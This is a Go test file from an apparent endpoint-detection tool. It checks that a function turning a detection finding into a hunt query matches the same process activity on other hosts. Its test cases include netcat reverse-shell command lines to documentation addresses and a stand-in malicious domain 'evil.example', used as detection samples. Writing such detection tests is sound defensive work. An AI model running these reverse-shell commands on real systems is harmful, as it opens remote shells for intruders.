package main

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/vedette-edr/vedette/proto/hunt"
	"github.com/vedette-edr/vedette/proto/sensorv1"
)

// deed is a record of a process for an expression.
type deed struct{ image, script, line string }

func (d deed) Kind() hunt.Kind { return hunt.Process }

func (d deed) Texts(f hunt.Field, out []string) []string {
	for field, text := range map[hunt.Field]string{hunt.Image: d.image, hunt.Script: d.script, hunt.CommandLine: d.line, hunt.Type: "exec"} {
		if f == field && text != "" {
			return append(out, text)
		}
	}
	return out
}

func (d deed) Number(hunt.Field) (uint64, bool)                      { return 0, false }
func (d deed) Addresses(_ hunt.Field, out []netip.Addr) []netip.Addr { return out }

// Ensure what is made of a finding finds the same deed on another host, and not another one.
func TestHuntLike(t *testing.T) {
	of := func(argv ...string) *sensorv1.Process {
		p := &sensorv1.Process{Image: []byte("/usr/bin/nc")}
		for _, a := range argv {
			p.Argv = append(p.Argv, []byte(a))
		}
		return p
	}
	finding := &sensorv1.Finding{Process: of("nc", "-e", "/bin/sh", "192.0.2.7", "4444")}
	for _, tt := range []struct {
		finding *sensorv1.Finding
		record  deed
		want    bool
	}{
		{finding, deed{image: "/usr/bin/nc", line: "nc -e /bin/sh 192.0.2.7 4444"}, true},
		{finding, deed{image: "/usr/bin/nc", line: "nc -e /bin/sh 198.51.100.23 53"}, true},
		{finding, deed{image: "/usr/bin/nc", line: "nc -l 80"}, false},
		{finding, deed{image: "/usr/bin/socat", line: "nc -e /bin/sh 192.0.2.7 4444"}, false},
		{&sensorv1.Finding{Process: of("nc")}, deed{image: "/usr/bin/nc", line: "nc -l 80"}, true},
		{&sensorv1.Finding{Process: of("nc", "9c56cc51b374c3ba189210d5b6d4bf57790d351c96c47c02190ecf1e430635ab")}, deed{image: "/usr/bin/nc", line: "nc 00ffcc51b374c3ba189210d5b6d4bf57790d351c96c47c02190ecf1e430635aa"}, true},
		{&sensorv1.Finding{Process: of("nc", "a\nb", "\xff")}, deed{image: "/usr/bin/nc", line: "nc a\nb \xfe"}, true},
		{&sensorv1.Finding{Process: of("nc", strings.Repeat("a.b", 1000))}, deed{image: "/usr/bin/nc", line: "nc other"}, true},
		{&sensorv1.Finding{Process: &sensorv1.Process{Image: []byte("/usr/bin/python3"), Script: []byte("/tmp/x.py")}}, deed{image: "/usr/bin/python3.12", script: "/tmp/x.py"}, true},
		{&sensorv1.Finding{Process: of("nc"), Flows: []*sensorv1.Flow{{Remote: []byte{203, 0, 113, 7}, Name: "evil.example"}}}, deed{image: "/usr/bin/nc"}, true},
	} {
		text, err := huntLike(tt.finding)
		if err != nil {
			t.Errorf("%v: %v", tt.finding, err)
			continue
		}
		e, err := hunt.Parse(text)
		if err != nil {
			t.Errorf("%s: %v", text, err)
			continue
		}
		if got := e.Matcher().Match(tt.record); got != tt.want {
			t.Errorf("%s\n%+v: got %v", text, tt.record, got)
		}
	}
	text, err := huntLike(&sensorv1.Finding{Flows: []*sensorv1.Flow{{Remote: []byte{203, 0, 113, 7}, Name: "evil.example"}, {Remote: []byte{127, 0, 0, 1}}}, Lookups: []string{"evil.example", "b.example"}})
	if want := `any where (remote.address in ("203.0.113.7")) or (name in ("evil.example", "b.example")) or (remote.name in ("evil.example", "b.example"))`; err != nil || text != want {
		t.Errorf("got %s, %v", text, err)
	}
	if _, err := huntLike(&sensorv1.Finding{Kind: "silent"}); err == nil {
		t.Error("a finding of nothing that can be hunted for made an expression")
	}
}
